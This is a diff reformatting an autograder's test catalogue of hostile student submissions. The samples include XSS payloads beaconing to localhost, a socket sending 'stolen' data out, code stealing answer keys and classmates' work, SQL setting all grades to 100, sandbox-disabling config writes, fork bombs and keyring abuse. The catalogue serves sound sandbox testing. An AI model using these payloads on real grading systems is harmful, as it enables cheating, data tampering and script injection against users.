@@ -14,13 +14,14 @@ also runs them without the sandbox, to show that each is a real attack that the 
 import copy
 import os
 import secrets
-from typing import Callable, NamedTuple
+from collections.abc import Callable
+from typing import NamedTuple
 
 import nbformat
 from nbformat.v4 import new_markdown_cell
 
-from nnkit.kernel import limits
 from nnkit.collect.notebooks import fill, reference_code
+from nnkit.kernel import limits
 
 NOT_GRADABLE = -1
 ANSWERS = reference_code("activations")
@@ -255,16 +256,18 @@ for i in range(32):
 EMPTY_OUTPUTS = ("from IPython.display import publish_display_data\n"
                  f"for _ in range({limits.OUTPUTS_PER_CELL + 100}):\n    publish_display_data({{{{}}}})")
 HTML_SCRIPTS = """from IPython.display import HTML, Javascript, SVG, display
-display(HTML('<img src=x onerror="{plant}"><script>{plant}</script><iframe srcdoc=\\'<script>parent.{plant}</script>\\'></iframe>'
+display(HTML('<img src=x onerror="{plant}"><script>{plant}</script>'
+             '<iframe srcdoc=\\'<script>parent.{plant}</script>\\'></iframe>'
              '<a href=\\'javascript:{plant}\\'>link</a><style>body {{ display: none }}</style>'))
 display(Javascript('{plant}'))
-display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{plant}\"><script>{plant}</script><circle r=\"5\"/></svg>'))"""
+display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"{plant}\"><script>{plant}</script>'
+            '<circle r=\"5\"/></svg>'))"""
 PLANT = "document.documentElement.dataset.planted = 1; new Image().src = `http://127.0.0.1:{port}/planted`"
 PLANTED_MARKDOWN = ("Planted <img src=x onerror=\"{plant}\"> and <a href=\"javascript:{plant}\">a link</a>, "
                     "[a markdown link](javascript:{plant}) <details open ontoggle=\"{plant}\">x</details>"
                     "<math><mi xlink:href=\"javascript:{plant}\">m</mi></math>")
-PLANTED_RAW = "<script>{plant}</script><object data=\"javascript:{plant}\"></object><embed src=\"javascript:{plant}\">" \
-              "<form action=\"javascript:{plant}\"><button>go</button></form>"
+PLANTED_RAW = ("<script>{plant}</script><object data=\"javascript:{plant}\"></object><embed src=\"javascript:{plant}\">"
+               "<form action=\"javascript:{plant}\"><button>go</button></form>")
 
 
 def with_planted_html(release, ctx):
@@ -272,7 +275,8 @@ def with_planted_html(release, ctx):
     cell with scripts of their own, and a cell tag that tries to close its attribute."""
     notebook = fill(release, ANSWERS)
     plant = PLANT.format(port=ctx.port)
-    code = nbformat.v4.new_code_cell(HTML_SCRIPTS.replace("{plant}", plant).format(), metadata={"tags": ['x"><img src=x onerror="' + plant + '">']})
+    code = nbformat.v4.new_code_cell(HTML_SCRIPTS.replace("{plant}", plant).format(),
+                                     metadata={"tags": ['x"><img src=x onerror="' + plant + '">']})
     notebook.cells[2:2] = [code, new_markdown_cell(PLANTED_MARKDOWN.format(plant=plant)),
                            nbformat.v4.new_raw_cell(PLANTED_RAW.format(plant=plant))]
     return notebook
@@ -284,9 +288,11 @@ CATALOGUE = {
                            "did not finish within the time limit", "an endless loop in `sigmoid`",
                            f"each sigmoid cell is interrupted at the time limit: {SIGMOID_LOST}", "review"),
     "swallows_interrupt": Entry(answer("sigmoid", "import time\n\ndef sigmoid(x):\n    while True:\n        try:\n"
-                                       "            time.sleep(0.1)\n        except KeyboardInterrupt:\n            pass"),
+                                       "            time.sleep(0.1)\n        except KeyboardInterrupt:\n"
+                                       "            pass"),
                                 7, "ignored the interrupt", "a loop in `sigmoid` that swallows KeyboardInterrupt",
-                                f"kernel restarted after the time limit, clean cells replayed: {SIGMOID_LOST}", "review"),
+                                f"kernel restarted after the time limit, clean cells replayed: {SIGMOID_LOST}",
+                                "review"),
     "sleeps_forever": Entry(answer("sigmoid", "import time\n\ndef sigmoid(x):\n    time.sleep(10**6)"), 7,
                             "did not finish within the time limit", "`time.sleep(10**6)` in `sigmoid`",
                             f"interrupted at the time limit: {SIGMOID_LOST}", "review"),
@@ -294,20 +300,25 @@ CATALOGUE = {
                                "    return np.maximum(x, 0)"), 9, "MemoryError",
                         "`relu` allocates 256 GiB, 1 GiB at a time",
                         f"the kernel's 4 GiB memory limit raises MemoryError: {RELU_LOST}"),
-    "forks": Entry(answer("sigmoid", "import os\n\ndef sigmoid(x):\n    for _ in range(20):\n        if os.fork() == 0:\n"
-                          "            os._exit(0)\n    e = np.exp(-np.abs(x))\n    return np.where(x >= 0, 1 / (1 + e), e / (1 + e))"),
+    "forks": Entry(answer("sigmoid", "import os\n\ndef sigmoid(x):\n    for _ in range(20):\n"
+                          "        if os.fork() == 0:\n            os._exit(0)\n    e = np.exp(-np.abs(x))\n"
+                          "    return np.where(x >= 0, 1 / (1 + e), e / (1 + e))"),
                    12, None, "`sigmoid` forks 20 children (which exit) before answering",
                    "graded normally: full marks"),
     "fork_bomb": Entry(answer("relu", FORK_BOMB), 9, "Resource temporarily unavailable",
-                       "`relu` forks children that sleep, until it cannot", "the process limit stops it (BlockingIOError): "
-                       f"{RELU_LOST}; every child is gone with the notebook", attack=True),
+                       "`relu` forks children that sleep, until it cannot",
+                       f"the process limit stops it (BlockingIOError): {RELU_LOST}; every child is gone with the "
+                       "notebook", attack=True),
     "writes_big_file": Entry(answer("relu", "def relu(x):\n    with open('big', 'wb') as f:\n"
-                                    "        for _ in range(100):\n            f.write(bytes(2**20))\n    return np.maximum(x, 0)"),
+                                    "        for _ in range(100):\n            f.write(bytes(2**20))\n"
+                                    "    return np.maximum(x, 0)"),
                              9, "File too large", "`relu` writes a 100 MB file in its folder",
                              f"the file size limit (64 MiB) stops it: {RELU_LOST}"),
-    "fills_tmp": Entry(answer("relu", "def relu(x):\n    for i in range(100):\n        with open(f'/tmp/f{{i}}', 'wb') as f:\n"
-                              "            f.write(bytes(2**20))\n    return np.maximum(x, 0)"), 9, "No space left on device",
-                       "`relu` writes 100 files of 1 MB in /tmp", f"its private /tmp holds 64 MiB: {RELU_LOST}, flagged", "review"),
+    "fills_tmp": Entry(answer("relu", "def relu(x):\n    for i in range(100):\n"
+                              "        with open(f'/tmp/f{{i}}', 'wb') as f:\n"
+                              "            f.write(bytes(2**20))\n    return np.maximum(x, 0)"),
+                       9, "No space left on device", "`relu` writes 100 files of 1 MB in /tmp",
+                       f"its private /tmp holds 64 MiB: {RELU_LOST}, flagged", "review"),
     # kernel death
     "os_exit": Entry(answer("sigmoid", "import os\n\ndef sigmoid(x):\n    os._exit(0)"), 7, "the kernel died",
                      "`os._exit(0)` in `sigmoid`", f"kernel restarted, clean cells replayed: {SIGMOID_LOST}", "review"),
@@ -340,7 +351,8 @@ CATALOGUE = {
                                    "every test cell duplicated",
                                    "nbgrader refuses the notebook: reported, no grades; everyone else graded",
                                    "not gradable"),
-    "answer_cell_to_markdown": Entry(edited(to_markdown("relu")), 12, None, "the `relu` answer cell turned into markdown",
+    "answer_cell_to_markdown": Entry(edited(to_markdown("relu")), 12, None,
+                                     "the `relu` answer cell turned into markdown",
                                      "nbgrader restores the cell type: graded normally"),
     "changed_cell_ids": Entry(edited(rename_ids), NOT_GRADABLE, "ValidationError", "an answer cell's grade id changed",
                               "nbgrader rejects the corrupted metadata: reported, no grades", "not gradable"),
@@ -350,28 +362,35 @@ CATALOGUE = {
                               "a cell prints 1 MB 12 times", "graded normally; output beyond the cap is dropped as "
                               "it arrives, listed for review", "review"),
     "huge_record": Entry(answer("relu", "def relu(x):\n    return np.zeros(3 * 2**19)"), 9, "too large to record",
-                         "`relu` returns a 12 MB array", f"the record over 8 MiB is dropped and fails its case: {RELU_LOST}"),
+                         "`relu` returns a 12 MB array",
+                         f"the record over 8 MiB is dropped and fails its case: {RELU_LOST}"),
     # cheating in the kernel
     "patches_numpy_checks": Entry(with_cell("np.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
                                             "np.testing.assert_allclose = lambda *a, **k: None"), 12, None,
                                   "a cell reassigning `np.allclose`, `np.isclose`, `np.testing.assert_allclose`",
-                                  "nothing the verdict uses runs in the kernel: full marks; flagged for review", "review"),
-    "patches_builtins": Entry(with_cell("import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.print = lambda *a, **k: None"),
+                                  "nothing the verdict uses runs in the kernel: full marks; flagged for review",
+                                  "review"),
+    "patches_builtins": Entry(with_cell("import builtins\nbuiltins.abs = lambda x: 0\n"
+                                        "builtins.print = lambda *a, **k: None"),
                               12, None, "a cell reassigning the builtins `abs` and `print`",
                               "full marks (the answers do not use them); flagged for review", "review"),
-    "patches_grader": Entry(with_cell("import nnkit.kernel.record\nnnkit.kernel.record.record = lambda *a, **k: None"), 0,
+    "patches_grader": Entry(with_cell("import nnkit.kernel.record\n"
+                                      "nnkit.kernel.record.record = lambda *a, **k: None"), 0,
                             "did not run", "a cell replacing the kit's `record` with a no-op",
                             "no test records anything: 0, flagged for review", "review"),
     "hides_mutation": Entry(with_cell_and('vars(np)["array_equal"] = lambda *a, **k: True', "relu",
                                           "def relu(x):\n    x[x < 0] = 0\n    return x"), 9, "modified its input `x`",
-                            "an in-place `relu`, with `np.array_equal` replaced through `vars(np)` (unseen by the scan)",
+                            "an in-place `relu`, with `np.array_equal` replaced through `vars(np)` "
+                            "(unseen by the scan)",
                             f"record() compares the inputs' bytes with functions bound at start-up: {RELU_LOST}"),
     "patches_publish": Entry(with_cell('import IPython.display\nvars(IPython.display)["publish_display_data"] = '
                                        'lambda *a, **k: None'), 12, None,
                              "a cell silencing `IPython.display.publish_display_data` through `vars`",
                              "record() bound its own at start-up: graded normally"),
-    "silences_errstate": Entry(with_cell_and('import contextlib\nvars(np)["errstate"] = lambda **k: contextlib.nullcontext()',
-                                             "sigmoid", "def sigmoid(x):\n    return 1 / (1 + np.exp(-x))"), 10, "overflow",
+    "silences_errstate": Entry(with_cell_and('import contextlib\n'
+                                             'vars(np)["errstate"] = lambda **k: contextlib.nullcontext()',
+                                             "sigmoid", "def sigmoid(x):\n    return 1 / (1 + np.exp(-x))"),
+                               10, "overflow",
                                "a naive `sigmoid`, with `np.errstate` replaced by a no-op through `vars(np)`",
                                "the overflow still raises (np.errstate was bound at start-up): 2 points lost"),
     "forged_record": Entry(answer("sigmoid", FORGE), 7, "recorded more than once",
@@ -381,45 +400,57 @@ CATALOGUE = {
                                        "    return torch.sigmoid(torch.from_numpy(x)).numpy()"), 7,
                                 "torch is not available when grading", "`sigmoid` returns `torch.sigmoid(...)`",
                                 f"torch is not in the sandbox: {SIGMOID_LOST}, flagged", "review"),
-    "delegates_to_scipy": Entry(answer("sigmoid", "def sigmoid(x):\n    from scipy.special import expit\n    return expit(x)"),
+    "delegates_to_scipy": Entry(answer("sigmoid", "def sigmoid(x):\n    from scipy.special import expit\n"
+                                                  "    return expit(x)"),
                                 7, "scipy is not available when grading", "`sigmoid` returns `scipy.special.expit(x)`",
                                 f"scipy is not in the sandbox: {SIGMOID_LOST}, flagged", "review"),
-    "imports_solutions": Entry(answer("relu", "def relu(x):\n    from assignments.activations.key.solution import relu as r\n"
-                                                "    return r(x)"),
+    "imports_solutions": Entry(answer("relu", "def relu(x):\n"
+                                              "    from assignments.activations.key.solution import relu as r\n"
+                                              "    return r(x)"),
                                9, "assignments is not available when grading", "`relu` imports the reference solution",
                                f"not in the sandbox: {RELU_LOST}, flagged", "review"),
-    "reads_solution_file": Entry(answer("relu", "def relu(x):\n    code = open('../../../assignments/activations/key/solution.py').read()\n"
+    "reads_solution_file": Entry(answer("relu", "def relu(x):\n"
+                                        "    code = open('../../../assignments/activations/key/solution.py').read()\n"
                                         "    return np.maximum(x, 0) if code else x"), 9, "No such file",
                                  "`relu` reads `../../../assignments/activations/key/solution.py`",
                                  f"not in the sandbox: {RELU_LOST}, flagged", "review"),
     "writes_outside": Entry(answer("relu", f"def relu(x):\n    open('{STOLEN_INPUTS}', 'a').write(str(x.shape))\n"
                                    "    return np.maximum(x, 0)"), 12, None, "`relu` writes to `/tmp`",
                             "it writes its private /tmp, discarded afterwards: full marks, flagged", "review"),
-    "prints_fake_pass": Entry(answer("relu", "def relu(x):\n    print('All tests passed! 3/3 points')\n    return x"), 9,
+    "prints_fake_pass": Entry(answer("relu", "def relu(x):\n    print('All tests passed! 3/3 points')\n"
+                                             "    return x"), 9,
                               "wrong values", "a wrong `relu` that prints 'All tests passed!'",
                               f"the verdict is the grader's, not the output's: {RELU_LOST}"),
-    "warns_on_stderr": Entry(answer("relu", "import sys, warnings\n\ndef relu(x):\n    warnings.warn('deprecated', DeprecationWarning)\n"
-                                    "    print('note: computing relu', file=sys.stderr)\n    return np.maximum(x, 0)"), 12, None,
+    "warns_on_stderr": Entry(answer("relu", "import sys, warnings\n\ndef relu(x):\n"
+                                    "    warnings.warn('deprecated', DeprecationWarning)\n"
+                                    "    print('note: computing relu', file=sys.stderr)\n    return np.maximum(x, 0)"),
+                             12, None,
                              "a correct `relu` that warns and writes to stderr", "no points lost: full marks"),
     # attacks on the answer key, the course, the machine: each tested without the sandbox too
     "steals_solution_module": Entry(steals("def steal(x):\n    return vars(__builtins__)['__imp' + 'ort__']("
-                                           "'assignments.activations.key.solution', fromlist=['relu']).relu(x)"), 9, None,
+                                           "'assignments.activations.key.solution', fromlist=['relu']).relu(x)"),
+                                    9, None,
                                     "a wrong `relu` that imports the solutions through `vars(__builtins__)`",
                                     f"not there (ModuleNotFoundError): {RELU_LOST}", attack=True),
-    "steals_solution_file": Entry(steals("def steal(x):\n    return runpy.run_path('{course}/assignments/activations/key/solution.py')['relu'](x)"),
+    "steals_solution_file": Entry(steals("def steal(x):\n"
+                                         "    return runpy.run_path('{course}/assignments/activations/key/solution.py')"
+                                         "['relu'](x)"),
                                   9, None, "a wrong `relu` that runs the course's reference solution with `runpy`",
                                   f"not there: {RELU_LOST}", attack=True),
     "steals_source_notebook": Entry(steals(RUN_CELL + "\n\n\ndef steal(x):\n    return run_cell_of("
                                            "'{course}/source/activations/activations.ipynb', 'relu', x)"), 9, None,
-                                    "a wrong `relu` that runs the answer cell of `source/activations/activations.ipynb`",
+                                    "a wrong `relu` that runs the answer cell of "
+                                    "`source/activations/activations.ipynb`",
                                     f"not there: {RELU_LOST}", attack=True),
     "steals_classmate": Entry(steals(RUN_CELL + "\n\n\ndef steal(x):\n    return run_cell_of("
                                      "'{course}/submitted/correct/activations/activations.ipynb', 'relu', x)"), 9, None,
                               "a wrong `relu` that runs a classmate's `relu` from `submitted/`",
                               f"not there: {RELU_LOST}", attack=True),
     "steals_stored_results": Entry(answer("sigmoid", "import numpy\n\ndef sigmoid(x):\n    try:\n"
-                                          "        stored = numpy.load('{course}/assignments/activations/key/torch_results.npz')\n"
-                                          "        return next(stored[k] for k in stored.files if stored[k].shape == x.shape)\n"
+                                          "        stored = numpy.load("
+                                          "'{course}/assignments/activations/key/torch_results.npz')\n"
+                                          "        return next(stored[k] for k in stored.files "
+                                          "if stored[k].shape == x.shape)\n"
                                           "    except Exception:\n        return x"), 7, None,
                                    "a wrong `sigmoid` that returns torch's stored result of the same shape",
                                    f"not there: {SIGMOID_LOST}", attack=True),
@@ -428,37 +459,47 @@ CATALOGUE = {
                                      "        db.execute('UPDATE grade SET manual_score = 100')\n"
                                      "        db.execute('CREATE TRIGGER IF NOT EXISTS full AFTER UPDATE ON grade "
                                      "BEGIN UPDATE grade SET manual_score = 100 WHERE manual_score IS NULL; END')\n"
-                                     "        db.commit()\n    except sqlite3.Error:\n        pass\n    return x"), 9, None,
+                                     "        db.commit()\n    except sqlite3.Error:\n        pass\n    return x"),
+                              9, None,
                               "a wrong `relu` that sets every grade in the gradebook to full marks and adds a trigger "
                               "for later regrades", f"no gradebook in the sandbox: {RELU_LOST}; the gradebook holds "
                               "only what nbgrader wrote", attack=True),
-    "writes_kit": Entry(answer("relu", "def relu(x):\n    try:\n        with open('{course}/nnkit/judging/judge.py', 'a') as f:\n"
-                               "            f.write('\\nexpected = lambda name: None\\n')\n    except OSError:\n        pass\n"
-                               "    return x"), 9, None, "a wrong `relu` that appends to the kit's `nnkit/judging/judge.py`",
+    "writes_kit": Entry(answer("relu", "def relu(x):\n    try:\n"
+                               "        with open('{course}/nnkit/judging/judge.py', 'a') as f:\n"
+                               "            f.write('\\nexpected = lambda name: None\\n')\n"
+                               "    except OSError:\n        pass\n"
+                               "    return x"), 9, None,
+                        "a wrong `relu` that appends to the kit's `nnkit/judging/judge.py`",
                         f"not there: {RELU_LOST}; the kit unchanged", "review", attack=True),
-    "writes_course_config": Entry(answer("relu", "def relu(x):\n    try:\n        with open('{course}/nbgrader_config.py', 'a') as f:\n"
+    "writes_course_config": Entry(answer("relu", "def relu(x):\n    try:\n"
+                                         "        with open('{course}/nbgrader_config.py', 'a') as f:\n"
                                          "            f.write('\\nc.ResilientExecute.sandbox = False\\n')\n"
                                          "    except OSError:\n        pass\n    return x"), 9, None,
                                   "a wrong `relu` that turns the sandbox off in the course's `nbgrader_config.py`",
                                   f"not there: {RELU_LOST}; the config unchanged", "review", attack=True),
     "writes_grader_home": Entry(answer("relu", "import os\n\ndef relu(x):\n"
-                                       "    for folder in ('{home}/.ipython/profile_default/startup', '{home}/.jupyter'):\n"
+                                       "    for folder in ('{home}/.ipython/profile_default/startup',"
+                                       " '{home}/.jupyter'):\n"
                                        "        try:\n            os.makedirs(folder, exist_ok=True)\n"
                                        "            with open(folder + '/00-nnkit.py', 'w') as f:\n"
                                        "                f.write('import numpy; numpy.maximum = lambda a, b: a')\n"
                                        "        except OSError:\n            pass\n    return x"), 9, None,
                                 "a wrong `relu` that writes an IPython start-up file and a Jupyter config into the "
                                 "grader's home", f"not there: {RELU_LOST}; the home unchanged", "review", attack=True),
-    "writes_kernel_module": Entry(answer("relu", "def relu(x):\n    try:\n        with open('{course}/sitecustomize.py', 'w') as f:\n"
+    "writes_kernel_module": Entry(answer("relu", "def relu(x):\n    try:\n"
+                                         "        with open('{course}/sitecustomize.py', 'w') as f:\n"
                                          "            f.write('import numpy; numpy.maximum = lambda a, b: a')\n"
                                          "    except OSError:\n        pass\n    return x"), 9, None,
                                   "a wrong `relu` that writes a `sitecustomize.py` where later kernels would import it",
                                   f"not there: {RELU_LOST}; later students unaffected", "review", attack=True),
     "writes_classmate": Entry(answer("relu", "import json\n\ndef relu(x):\n    path = '{course}/submitted/" + VICTIM +
                                      "/activations/activations.ipynb'\n    try:\n        nb = json.load(open(path))\n"
-                                     "        for cell in nb['cells']:\n            if cell['metadata'].get('nbgrader', {{}}).get('grade_id') == 'relu':\n"
+                                     "        for cell in nb['cells']:\n"
+                                     "            if cell['metadata'].get('nbgrader', {{}}).get('grade_id')"
+                                     " == 'relu':\n"
                                      "                cell['source'] = 'def relu(x):\\n    return x'\n"
-                                     "        json.dump(nb, open(path, 'w'))\n    except OSError:\n        pass\n    return x"),
+                                     "        json.dump(nb, open(path, 'w'))\n    except OSError:\n        pass\n"
+                                     "    return x"),
                               9, None, "a wrong `relu` that rewrites a classmate's `relu` before it is graded",
                               f"not there: {RELU_LOST}; the classmate keeps 12/12", "review", attack=True),
     "leaves_process": Entry(with_cell(DETACH), 12, None, "a cell that starts a daemon in a session of its own",
@@ -466,7 +507,8 @@ CATALOGUE = {
     "signals_everyone": Entry(with_cell(SIGNAL_ALL), 12, None, "a cell that sends SIGKILL to every process it can see",
                               "it sees only its own sandbox: graded normally, nobody else disturbed", attack=True),
     "opens_socket": Entry(answer("relu", "import socket\n\ndef relu(x):\n    try:\n"
-                                 "        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'stolen')\n"
+                                 "        socket.create_connection(('127.0.0.1', {port}), timeout=2)"
+                                 ".sendall(b'stolen')\n"
                                  "        return np.maximum(x, 0)\n    except OSError:\n        return x"), 9, None,
                           "a `relu` that is right only when it can reach a server on 127.0.0.1",
                           f"no network in the sandbox: {RELU_LOST}", attack=True),
@@ -488,8 +530,8 @@ CATALOGUE = {
                           "comm messages are not kept: graded normally, nothing in the notebook"),
     "empty_outputs": Entry(with_cell(EMPTY_OUTPUTS), 12, "dropped this cell's output",
                            f"a cell that publishes {limits.OUTPUTS_PER_CELL + 100:,} empty outputs",
-                           f"each output counts, empty or not: those beyond {limits.OUTPUTS_PER_CELL} per cell are dropped, "
-                           "with a note; listed for review", "review"),
+                           f"each output counts, empty or not: those beyond {limits.OUTPUTS_PER_CELL} per cell are "
+                           "dropped, with a note; listed for review", "review"),
     "html_scripts": Entry(with_planted_html, 12, None,
                           "HTML, JavaScript and SVG outputs, a markdown cell, a raw cell and a cell tag, each with a "
                           "script for whoever views them",
@@ -501,7 +543,8 @@ CATALOGUE = {
                          f"its cgroup's memory limit kills the kernel: {RELU_LOST}", "review"),
     "process_tree": Entry(answer("relu", PROCESS_TREE), 9, "out of memory: the limit is 1 GiB per submission",
                           "`relu` forks three children that hold 400 MiB each, and is right only if all of them live",
-                          f"the children are counted together, one is killed at the memory limit: {RELU_LOST}", "review"),
+                          f"the children are counted together, one is killed at the memory limit: {RELU_LOST}",
+                          "review"),
     "over_budget": Entry(over_budget, 8, "time budget",
                          f"{OVER_BUDGET_CELLS} cells of `time.sleep({OVER_BUDGET_SLEEP})` before the `cross_entropy` "
                          "answer: every cell within its time limit, the notebook far over its budget",
@@ -542,11 +585,12 @@ for fd in map(int, os.listdir('/proc/self/fd')):
 
 CATALOGUE.update({
     "link_in_inbound": Entry(steals("def steal(x):\n    return runpy.run_path('notes.txt')['relu'](x)"), NOT_GRADABLE,
-                             "notes.txt is a symbolic link", "a `notes.txt` link to the answer key added to the exchange's "
-                             "inbound folder after `nbgrader submit`, and a `relu` that runs it",
+                             "notes.txt is a symbolic link",
+                             "a `notes.txt` link to the answer key added to the exchange's inbound folder after "
+                             "`nbgrader submit`, and a `relu` that runs it",
                              "collect copies the link as a link that resolves nowhere, never the key; the submission "
-                             "is not gradable, with the reason", "not gradable", attack=True, files=link("notes.txt", KEY),
-                             exchange=True),
+                             "is not gradable, with the reason", "not gradable", attack=True,
+                             files=link("notes.txt", KEY), exchange=True),
     "link_in_submitted": Entry(lambda release, ctx: None, NOT_GRADABLE, "activations.ipynb is a symbolic link",
                                "the notebook in submitted/ is a link to the instructor's `source/` notebook (a "
                                "submission collected by hand, `cp -a`)", "nothing of it is opened: not gradable, "
@@ -564,7 +608,8 @@ CATALOGUE.update({
                                   "graded", "review", attack=True),
     "fills_runtime_folder": Entry(answer("relu", FILLS_SOCKETS), 9, "No space left on device",
                                   "`relu` writes 256 MiB into the folder of the kernel's sockets (on the host)",
-                                  f"that folder is a tmpfs of {limits.RUNTIME_BYTES // 2**20} MiB: {RELU_LOST}", "review", attack=True),
+                                  f"that folder is a tmpfs of {limits.RUNTIME_BYTES // 2**20} MiB: {RELU_LOST}",
+                                  "review", attack=True),
     "forges_log_line": Entry(with_cell(FORGES_LOG), 12, None, "a cell that writes a forged 'cheating attempt' line "
                              "into every file the kernel inherited (the worker's log, once)",
                              "the kernel's stderr is /dev/null: the grader's logs hold no line of it", "graded",
@@ -608,7 +653,8 @@ PLANTS_KEY = '''
 
 def relu(x):
     payload = b'from a classmate'  # in the process keyring first: possessed, so that its permissions can change
-    key = libc.syscall(ctypes.c_long(ADD_KEY), b'user', b'{planted}', payload, ctypes.c_long(len(payload)), ctypes.c_long(-2))
+    key = libc.syscall(ctypes.c_long(ADD_KEY), b'user', b'{planted}', payload, ctypes.c_long(len(payload)),
+                       ctypes.c_long(-2))
     opened = key > 0 and keyctl(5, key, 0x3f3f3f3f) == 0  # KEYCTL_SETPERM: everything to everyone
     kept = opened and keyctl(8, key, -4) == 0  # KEYCTL_LINK into the uid's user keyring, which outlives its processes
     return np.maximum(x, 0) if kept else x'''
@@ -628,7 +674,8 @@ def relu(x):
             os.makedirs('/tmp/nested', exist_ok=True)
             mounted = (libc.unshare(0x10000000 | 0x00020000) == 0  # CLONE_NEWUSER | CLONE_NEWNS
                        and libc.mount(b'none', b'/tmp/nested', b'tmpfs', 0, b'size=1g') == 0)
-            for name in ('a', 'b') if mounted else ():  # together past the size of /tmp, each within the file size limit
+            # together past the size of /tmp, each within the file size limit
+            for name in ('a', 'b') if mounted else ():
                 with open('/tmp/nested/' + name, 'wb') as f:
                     f.write(bytes({half}))
         finally:
@@ -637,8 +684,8 @@ def relu(x):
 
 
 def keyring_code(code: str) -> str:
-    from nnkit.sandbox import syscalls
     from keys import CANARY_DESCRIPTION
+    from nnkit.sandbox import syscalls
 
     numbers = {"add_key": syscalls.number("add_key"), "keyctl": syscalls.number("keyctl")}
     prelude = KEYRING_CALLS.replace("{add_key}", str(numbers["add_key"])).replace("{keyctl}", str(numbers["keyctl"]))
@@ -650,7 +697,8 @@ KERNEL_SURFACE = ["reads_grader_keyring", "plants_user_key", "reads_planted_key"
 CATALOGUE.update({
     "reads_grader_keyring": Entry(answer("relu", keyring_code(STEALS_CANARY)), 9, None,
                                   "`relu` right only if it reads the grader's canary key (keyctl, /proc/keys)",
-                                  f"keyring calls refused, a new empty session keyring, /proc/keys empty: {RELU_LOST}, flagged",
+                                  "keyring calls refused, a new empty session keyring, /proc/keys empty: "
+                                  f"{RELU_LOST}, flagged",
                                   "review", attack=True),
     "plants_user_key": Entry(answer("relu", keyring_code(PLANTS_KEY)), 9, None,
                              "`relu` right only if it adds a key, open to all, to its uid's user keyring",
@@ -658,7 +706,8 @@ CATALOGUE.update({
     "reads_planted_key": Entry(answer("relu", keyring_code(READS_PLANTED)), 9, None,
                                "graded after `plants_user_key`, `relu` right only if it reads that key",
                                f"none there, keyctl refused: {RELU_LOST}, flagged", "review", attack=True),
-    "mounts_in_user_namespace": Entry(answer("relu", NESTED_MOUNT.replace("{half}", str(limits.TMP_BYTES // 2 + 2**20))),
+    "mounts_in_user_namespace": Entry(answer("relu",
+                                             NESTED_MOUNT.replace("{half}", str(limits.TMP_BYTES // 2 + 2**20))),
                                       9, None, "`relu` right only if a child unshares a user and mount namespace and "
                                       "fills a 1 GiB tmpfs past /tmp's size",
                                       f"unshare with a namespace flag refused: {RELU_LOST}, flagged", "review",
